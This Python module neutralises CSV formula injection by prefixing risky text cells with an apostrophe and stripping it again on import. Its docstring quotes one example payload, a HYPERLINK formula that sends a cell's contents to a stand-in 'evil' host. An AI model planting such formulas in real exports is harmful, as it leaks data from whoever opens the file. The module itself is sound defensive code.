"""CSV cells that a spreadsheet will not run as formulas (CSV / formula injection).

A text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to
Excel, LibreOffice and Google Sheets: ``=HYPERLINK("http://evil/?"&A1, "click")`` in a product
name would run on the desk of whoever opens an export. Such cells are written with a leading
apostrophe (OWASP's "CSV Injection" advice), which spreadsheets show as text; our own CSV import
removes it again (:func:`restore_cell`), so an export imports back unchanged. Numbers are not
text cells and are written as they are (``-5.0`` stays a number).
"""

from __future__ import annotations

import csv
from collections.abc import Mapping
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def restore_cell(value: str) -> str:
    """The original text of a cell :func:`neutralise` wrote (anything else is returned as is)."""
    if value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


class DictWriter(csv.DictWriter):
    """``csv.DictWriter`` whose text cells never start a formula."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({k: neutralise(v) for k, v in rowdict.items()})


__all__ = ["FORMULA_STARTS", "DictWriter", "neutralise", "restore_cell"]
